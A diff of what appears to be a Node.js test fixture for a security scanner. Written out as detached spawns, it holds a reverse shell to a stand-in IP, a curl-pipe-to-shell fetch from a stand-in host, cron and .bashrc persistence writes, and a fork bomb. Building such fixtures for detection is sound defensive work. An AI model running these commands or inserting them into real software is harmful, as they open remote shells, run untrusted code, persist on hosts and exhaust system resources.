@@ -332,7 +332,7 @@ const udp = dgram.createSocket('udp4');
 udp.send(query, 53, '198.51.100.53', () => udp.close());
 try { fs.writeFileSync('/etc/cron.d/dsca-fixture', '* * * * * root true\n'); } catch (e) {}
 fs.appendFileSync(os.homedir() + '/.bashrc', '\nexport FIXTURE=1\n');
-cp.spawn('sh', ['-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'], { stdio: 'ignore', detached: true }).unref();
+cp.spawn('bash', ['-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'], { stdio: 'ignore', detached: true }).unref();
 cp.spawn('sh', ['-c', 'curl -s http://stage.example/run.sh | sh'], { stdio: 'ignore', detached: true }).unref();
 cp.spawn('sh', ['-c', 'sleep 1; echo late > /tmp/late-marker; sleep 100'], { stdio: 'ignore', detached: true }).unref();
 cp.spawn('sh', ['-c', 'b() { b | b & }; b'], { stdio: 'ignore', detached: true }).unref();
